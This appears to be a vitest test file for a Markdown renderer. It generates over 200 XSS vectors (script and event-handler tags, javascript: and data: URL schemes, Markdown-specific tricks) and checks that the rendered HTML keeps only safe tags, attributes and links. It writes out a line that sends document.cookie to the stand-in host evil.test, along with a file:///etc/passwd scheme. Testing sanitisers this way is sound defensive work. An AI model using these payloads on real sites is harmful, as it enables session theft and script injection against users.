import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import { expect, test } from 'vitest';
import { renderMarkdown } from './render-markdown.ts';

const payloads = ['alert(1)', 'fetch("//evil.test/"+document.cookie)'];
const tags = [
  'script',
  'img src=x',
  'svg',
  'iframe',
  'object',
  'embed',
  'math',
  'style',
  'link',
  'base',
  'form',
  'video',
];
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onpointerdown',
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java&#10;script:',
  '&#x6a;avascript:',
  'javascript&colon;',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml;base64,',
  'file:///etc/passwd#',
  '//evil.test/',
  'blob:',
];

/** Attacks by tags and handlers, by addresses of links and images, and by what Markdown itself offers. */
const vectors: readonly string[] = [
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}="${payloads[0]}">`)),
  ...tags.flatMap((tag) => [
    `<${tag}>${payloads[1]}</${tag.split(' ')[0]}>`,
    `text\n\n<${tag}/${handlers[0]}=alert(1)//`,
  ]),
  ...schemes.flatMap((scheme) => [
    `[x](${scheme}alert(1))`,
    `![x](${scheme}alert(1))`,
    `<${scheme}alert(1)>`,
    `[x][r]\n\n[r]: ${scheme}alert(1)`,
    `<a href="${scheme}alert(1)">x</a>`,
  ]),
  '![x](/media/blog/aim_00000000000000000000000000" onerror="alert(1))',
  '![" onerror="alert(1)](/media/blog/aim_00000000000000000000000000)',
  '[x](/ "\\" onmouseover=\\"alert(1)")',
  '```html onload=alert(1)\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '`<script>alert(1)</script>`',
  '# <img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <svg onload=alert(1)> | c |',
  'x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))',
  '- [x] <img src=x onerror=alert(1)>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="https://evil.test" target="_blank" ping="https://evil.test">x</a>',
  '<details open ontoggle=alert(1)>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  'www.evil.test/"onmouseover="alert(1)',
  'https://evil.test/<script>alert(1)</script>',
  '<x@y.test"onclick="alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<script\u0000>alert(1)</script>',
];

const allowedTags = new Set(
  'a blockquote br code del em h2 h3 h4 h5 h6 hr img input li ol p pre section strong sup table tbody td th thead tr ul'.split(
    ' ',
  ),
);
const allowedAttributes = new Set(
  'href rel src alt title width height loading decoding id className type checked disabled start align ariaDescribedBy ariaLabel dataFootnoteRef dataFootnoteBackref dataFootnotes'.split(
    ' ',
  ),
);

test('there are at least 200 attacks', () => {
  expect(new Set(vectors).size).toBeGreaterThanOrEqual(200);
});

test.each(vectors.map((vector) => [vector]))('renders %j without anything that can run', (vector) => {
  const { html } = renderMarkdown(vector);
  visit(fromHtml(html, { fragment: true }), 'element', ({ tagName, properties }) => {
    expect(allowedTags).toContain(tagName);
    for (const name of Object.keys(properties)) expect(allowedAttributes).toContain(name);
    if (tagName === 'img') expect(properties.src).toMatch(/^\/media\/blog\/aim_[0-9a-f]{26}$/);
    if (typeof properties.href === 'string') {
      expect(new URL(properties.href, 'https://own.test').protocol).toMatch(/^(https?|mailto):$/);
    }
  });
});

test('keeps the text of code as it is, but no attribute of the name style', () => {
  const { html } = renderMarkdown('`<p style="color:red">`');
  expect(html).toBe('<p><code>&#x3C;p style=&quot;color:red"></code></p>');
});

test('headings begin at the second level and have anchors with a prefix', () => {
  const { html, headings } = renderMarkdown('# Location\n\n### Deeper');
  expect(html).toBe('<h2 id="h-location">Location</h2>\n<h3 id="h-deeper">Deeper</h3>');
  expect(headings).toEqual([{ id: 'h-location', text: 'Location' }]);
});

test('marks links to other sites as nofollow and noopener', () => {
  expect(renderMarkdown('[x](https://a.test/)').html).toBe(
    '<p><a href="https://a.test/" rel="noopener nofollow">x</a></p>',
  );
  expect(renderMarkdown('[x](/pricing)').html).toBe('<p><a href="/pricing">x</a></p>');
});

test.each([['>'.repeat(10_000)], ['1. '.repeat(10_000)], ['['.repeat(10_000)]])('refuses deep nesting', (markdown) => {
  expect(() => renderMarkdown(markdown)).toThrow('is nested more than 50 levels deep');
});

test('renders rules and long lists of dashes', () => {
  expect(renderMarkdown('- '.repeat(60).trim()).html).toBe('<hr>');
});
